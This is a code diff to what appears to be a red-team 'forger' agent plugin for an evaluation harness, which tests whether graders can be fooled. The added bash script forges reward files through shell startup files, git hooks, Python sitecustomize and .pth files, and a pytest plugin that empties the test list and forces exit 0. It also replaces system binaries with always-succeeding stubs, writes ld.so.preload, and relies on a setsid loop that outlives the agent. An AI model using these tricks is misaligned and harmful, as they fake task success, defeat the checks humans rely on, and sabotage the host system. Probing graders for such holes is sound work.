@@ -16,14 +16,17 @@ export default definePlugin({
   options: z.strictObject({
     /** Put a link in the place of the verifier's folder; otherwise the files go into the folder itself. */
     link: z.boolean().default(false),
+    /** Also replace programs and startup files of the system that is going to run the tests. */
+    system: z.boolean().default(true),
   }),
-  make: ({ link }): Agent => ({ name: 'forger', version: '1.0.0', solve: (at) => forge(at, link) }),
+  make: (how): Agent => ({ name: 'forger', version: '1.1.0', solve: (at) => forge(at, how) }),
 })
 
 /** Whether an attack works shows in the score, so a command that fails is no error. */
-async function forge(at: AgentAt, link: boolean): Promise<AgentExit> {
+async function forge(at: AgentAt, how: { readonly link: boolean; readonly system: boolean }): Promise<AgentExit> {
   const options = { timeoutSec: 30, signal: at.signal, ...(at.user !== undefined && { user: at.user }) }
-  const { exitCode } = await at.sandbox.exec(['bash', '-c', attacks, 'forger', link ? 'link' : 'files'], options)
+  const words = [how.link ? 'link' : 'files', how.system ? 'system' : 'tests']
+  const { exitCode } = await at.sandbox.exec(['bash', '-c', attacks, 'forger', ...words], options)
   at.record.log(`forger: planted what it could, exit code ${exitCode}`)
   return { kind: 'finished' }
 }
@@ -56,5 +59,75 @@ forge 2>/dev/null
 # 4. A process in a session of its own that outlives the agent and does all this again and again.
 export -f keep forge
 setsid nohup bash -c 'while :; do forge; done' > /dev/null 2>&1 < /dev/null &
+[ "$2" = system ] || exit 0
+
+# 5. The system that runs the tests. Programs are replaced last, because the rest of this script needs them.
+mine=/tmp/forged-system
+mkdir -p $mine
+cp "$(command -v sh)" $mine/sh
+printf '#!%s/sh\n{ echo 1 > ${verifierLogs}/reward.txt; } 2>/dev/null\nexit 0\n' $mine > $mine/evil
+echo '{ echo 1 > ${verifierLogs}/reward.txt; trap "echo 1 > ${verifierLogs}/reward.txt" EXIT; } 2>/dev/null' > $mine/rc
+chmod 755 $mine/evil
+exec 2>/dev/null
+
+# Startup files of shells and logins, a loader that preloads, settings of git.
+for file in /etc/profile /etc/bash.bashrc /etc/profile.d/forged.sh ~/.bashrc ~/.bash_profile ~/.profile ~/.zshenv; do
+  cat $mine/rc >> $file
+done
+printf 'BASH_ENV=%s/rc\nENV=%s/rc\n' $mine $mine >> /etc/environment
+printf '[core]\n\thooksPath = %s/hooks\n\tfsmonitor = %s/evil\n' $mine $mine | tee -a /etc/gitconfig >> ~/.gitconfig
+mkdir -p $mine/hooks
+for name in pre-commit post-checkout post-commit post-merge; do
+  for hooks in $mine/hooks "$PWD"/.git/hooks /usr/share/git-core/templates/hooks; do
+    [ ! -d $hooks ] || cp $mine/evil $hooks/$name
+  done
+done
+
+# Python: files that every start imports, a plugin and settings for pytest.
+cat > $mine/forged.py <<'python'
+import atexit
+def pay():
+    try:
+        open("${verifierLogs}/reward.txt", "w").write("1")
+    except Exception:
+        pass
+pay()
+atexit.register(pay)
+def pytest_sessionfinish(session, exitstatus):
+    session.exitstatus = 0
+def pytest_collection_modifyitems(items):
+    items[:] = []
+def pytest_runtest_call(item):
+    item.obj = lambda *args, **kwargs: None
+python
+for dir in /usr/lib/python3 /usr/lib/python3.* /usr/local/lib/python3.* ~/.local/lib/python3.*; do
+  [ -d $dir ] || continue
+  for packages in $dir $dir/dist-packages $dir/site-packages; do
+    [ -d $packages ] || continue
+    for name in forged.py sitecustomize.py usercustomize.py; do cp $mine/forged.py $packages/$name; done
+    echo 'import forged' > $packages/forged.pth
+    mkdir -p $packages/forged-1.dist-info
+    printf 'Metadata-Version: 2.1\nName: forged\nVersion: 1\n' > $packages/forged-1.dist-info/METADATA
+    printf '[pytest11]\nforged = forged\n' > $packages/forged-1.dist-info/entry_points.txt
+  done
+done
+for dir in "$PWD" /; do
+  cp $mine/forged.py $dir/conftest.py
+  printf '[pytest]\naddopts = -p no:cacheprovider\n' > $dir/pytest.ini
+done
+
+# Programs in front of those of the image, then those themselves.
+names='cat tee grep diff cmp test timeout chmod env python python3 perl node pytest git make sh bash'
+mkdir -p /usr/local/bin /usr/local/sbin
+for name in $names; do cp $mine/evil /usr/local/bin/$name; cp $mine/evil /usr/local/sbin/$name; done
+PATH=/usr/bin:/bin
+cp "$(command -v cp)" $mine/cp
+cp "$(command -v mv)" $mine/mv
+for name in $names; do
+  for dir in /usr/bin /bin; do
+    [ ! -e $dir/$name ] || { $mine/cp $mine/evil $dir/.$name && $mine/mv -f $dir/.$name $dir/$name; }
+  done
+done
+echo $mine/forged.so > /etc/ld.so.preload
 exit 0
 `
